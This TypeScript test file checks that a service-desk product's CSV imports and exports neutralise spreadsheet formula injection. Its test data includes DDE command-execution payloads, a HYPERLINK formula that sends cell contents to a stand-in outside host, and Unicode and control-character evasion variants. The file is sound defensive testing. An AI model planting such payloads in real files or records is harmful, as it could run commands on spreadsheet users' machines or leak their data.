// What a spreadsheet would run: planted wherever somebody can type, and met again in every table the product hands out.
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { PassThrough, Readable } from "node:stream";
import { text } from "node:stream/consumers";
import { after, describe, test } from "node:test";
import { importCustomersCommand } from "../cli/import/import-customers.ts";
import { importServiceRequests, importTicketEvents } from "../cli/import/import-histories.ts";
import { runCommandLine } from "../cli/run.ts";
import { accountOf, matrixWorld } from "../identity/testing/access-matrix/world.ts";
import { signedIn } from "../identity/testing/people.ts";
import { currentTree, forgetTree } from "../identity/organisation/tree.ts";
import { recordsOf } from "../platform/files/csv-records.ts";
import { sql } from "../platform/sql.ts";
import { testDatabase } from "../platform/testing/database.ts";
import { testPlatform, testServer } from "../platform/testing/server.ts";
import { manualTime } from "../platform/time.ts";
import { access, slices } from "../routes.ts";

const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"查看")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  "a\n=1+1",
  '",=1+1,"',
  ";=1+1",
];

const folder = await mkdtemp(path.join(tmpdir(), "bihuan-exports-"));
const db = await testDatabase();
const platform = testPlatform(db, manualTime("2026-03-20T02:00:00Z"), { BIHUAN_ATTACHMENTS: folder });
const { world, server } = await matrixWorld(platform, () => testServer({ platform, slices, access: access(platform) }));
after(async () => {
  await server.close();
  await rm(folder, { recursive: true, force: true });
});
const everything = await signedIn(
  platform,
  (["MANAGER", "AGENT", "DISPATCHER", "ANALYST", "SYSTEM_ADMIN"] as const).map((role) => [role, world.unitId("P")]),
);
const ask = (method: "GET" | "POST", url: string, payload?: object) =>
  server.app.inject({
    method,
    url: `/api${url}`,
    headers: { ...everything.headers, "idempotency-key": crypto.randomUUID() },
    ...(payload ? { payload } : {}),
  });

/**
 * Reads a table as a spreadsheet does. Out: how many of its cells would have been run, had they been written as they were.
 * Errors: a cell that would be run; a table that falls apart.
 */
function disarmed(csv: string): number {
  assert.ok(csv.startsWith("\uFEFF"), "without it spreadsheets misread Chinese");
  const records = recordsOf(csv.slice(1), { delimiter: "," });
  const [heading] = records;
  let met = 0;
  for (const record of records) {
    assert.ok("cells" in record, csv);
    assert.equal(record.cells.length, heading && "cells" in heading ? heading.cells.length : 0, csv);
    for (const cell of record.cells) {
      const runs = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
      assert.ok(!runs, JSON.stringify(cell));
      if (/^'[\s\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell)) met++;
    }
  }
  return met;
}

/** Plants each formula in names of units, people, customers, areas and states, in titles and addresses. */
async function plant() {
  const tree = await currentTree(platform);
  for (const [number, formula] of formulas.entries()) {
    await db.run(sql`
      insert into unit (code, name, kind, parent_id, region_id, created_at, changed_at)
      select ${`=${number}`}, ${formula}, 'CREW', unit_id, region_id, created_at, changed_at from unit where code = 'A11'`);
    const form = { origin: "HOTLINE_95598", areaClass: "URBAN", title: "无电", contactName: "王", contactPhone: "13800000000" };
    const intake = { flow: "fault-repair", deskUnitId: world.unitId("A1"), form: { ...form, targetUnitId: world.unitId("A11") } };
    const { orderId } = (await ask("POST", "/orders", intake)).json<{ orderId: string }>();
    await db.run(
      sql`update order_contact set title = ${formula}, name = ${formula}, address = ${formula} where order_id = ${orderId}`,
    );
    const applied = await ask("POST", "/orders", { ...intake, flow: "connection-resident", subtype: "NEW" });
    const connectionId = applied.json<{ orderId: string }>().orderId;
    await db.run(sql`update order_contact set title = ${formula} where order_id = ${connectionId}`);
    // Of a hall that bears the formula, and archived today.
    await db.run(sql`
      update work_order set desk_unit_id = (select unit_id from unit where code = ${`=${number}`}) where order_id = ${connectionId}`);
    await db.run(sql`
      insert into order_event (region_id, intake_month, order_id, seq, type, at, recorded_at, actor_kind, actor_id, hash)
      select region_id, intake_month, order_id, 99, 'archive', at, recorded_at, 'system', 0, hash
      from order_event where order_id = ${connectionId} and seq = 1`);
    const holder = await signedIn(platform, [], { name: formula, homeUnitId: world.unitId("A11") });
    await db.run(sql`update work_order set holder_id = ${holder.id} where order_id = ${orderId}`);
    const made = await ask("POST", "/customers", accountOf(`33010000${10 + number}`, world.unitId("A11")));
    const { customerId } = made.json<{ customerId: string }>();
    await db.run(sql`update customer set name = ${formula} where customer_id = ${customerId}::bigint`);
    await db.run(sql`update customer_account set address = ${formula} where customer_id = ${customerId}::bigint`);
    await db.run(sql`
      insert into customer_contact (region_id, customer_id, contact_no, name, phone, relation)
      values (${tree.unit(world.unitId("A11"))?.regionId}, ${customerId}::bigint, 9, ${formula}, '13800000000', 'OTHER')`);
  }
  forgetTree(db);
}
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const write = async (name: string, content: string) => {
  await writeFile(path.join(folder, name), content);
  return path.join(folder, name);
};

describe("no cell of any table can be run as a formula", async () => {
  await plant();
  const requests = await write(
    "requests.csv",
    `No,${quoted("=Dept")},Kind,Opened\n${formulas.map((formula, n) => `${n},${quoted(formula)},${quoted(formula)},2024-03-01 08:00\n`).join("")}x,a,b,never\n`,
  );
  const common = "zone: Asia/Shanghai\ntime: YYYY-MM-DD HH:mm\n";
  const requestMapping = await write(
    "requests.yaml",
    `kind: service-requests\nname: hostile\n${common}columns: { id: No, unit: "=Dept", type: Kind, opened: Opened }\nalso: [Kind]\n`,
  );
  const steps = await write(
    "steps.csv",
    `No,State,At\n${formulas.map((formula, n) => `${n},${quoted(formula)},2024-03-01 08:00\n${n},end,2024-03-01 09:00\n`).join("")}x,end,never\n`,
  );
  const stepMapping = await write(
    "steps.yaml",
    `kind: ticket-events\nname: hostile-steps\n${common}columns: { id: No, state: State, at: At }\nclosing: [end]\n`,
  );

  const customers = await write(
    "customers.csv",
    `户号,户名,用电类别,区域类别,${quoted("=备注")}\n${formulas.map((formula, n) => `77${n},${quoted(formula)},农业,城区,${quoted(formula)}\n`).join("")}7799,甲,居民,城区,\n`,
  );
  for (const [what, file, words] of [
    ["service-requests", requests, ["--mapping", requestMapping, "--below", "A11"]],
    ["ticket-events", steps, ["--mapping", stepMapping, "--below", "A11"]],
    ["customers", customers, ["--unit", "A11"]],
  ] as const)
    test(`the rows that an import of ${what} rejects`, async () => {
      const rejects = path.join(folder, `${what}-rejects.csv`);
      const [stdout, stderr] = [new PassThrough(), new PassThrough()];
      const said = text(stderr);
      stdout.resume();
      const code = await runCommandLine({
        arguments: ["import", what, file, ...words, "--rejects", rejects],
        environment: { DATABASE_URL: db.url, BIHUAN_POOL_SIZE: "2" },
        folder,
        home: folder,
        commands: [importServiceRequests, importTicketEvents, importCustomersCommand],
        stdin: Readable.from([]),
        stdout,
        stderr,
      });
      stderr.end();
      assert.equal(code, 0, await said);
      assert.ok(disarmed(await readFile(rejects, "utf8")) >= (what === "customers" ? formulas.length : 0));
    });

  const exports: Readonly<Record<string, readonly (readonly ["GET" | "POST", string, object?])[]>> = {
    exportOrganisation: [["GET", "/organisation/export"]],
    exportCustomers: [
      ["POST", "/customers/export", {}],
      ["POST", "/customers/export", { unmaskReason: "核对导出内容" }],
    ],
    exportOrders: [["GET", "/orders/export?state=all"]],
    exportConnections: [["GET", "/connections/export?state=all"]],
    exportConnectionCompliance: [["GET", "/reports/connection-compliance/export?by=unit"]],
    customerTemplate: [["GET", "/customers/import/template?format=csv"]],
    exportReport: [
      ["GET", "/reports/timeliness/export?import=hostile&by=unit,type,Kind"],
      ["GET", `/reports/timeliness/export?import=hostile&by=${encodeURIComponent("=Dept")}`],
      ["GET", "/reports/verdicts/export?import=hostile&by=unit"],
      ["GET", "/reports/states/export?import=hostile-steps"],
    ],
  };
  const tables = slices
    .flatMap(({ operations }) => Object.entries(operations))
    .filter(([, operation]) => operation.produces?.startsWith("text/csv"));
  for (const [name, operation] of tables)
    test(`what ${name} hands out: ${operation.summary.en}`, async () => {
      const asked = exports[name];
      assert.ok(asked, `${name} hands out a table that nobody tried: add it above`);
      for (const [method, url, payload] of asked) {
        const response = await ask(method, url, payload);
        assert.equal(response.statusCode, 200, `${url}: ${response.body}`);
        // A template holds nothing that anybody wrote.
        assert.ok(
          disarmed(response.body) >= (name === "customerTemplate" ? 0 : 1),
          `${url} shows nothing of what was planted:\n${response.body}`,
        );
      }
    });
});
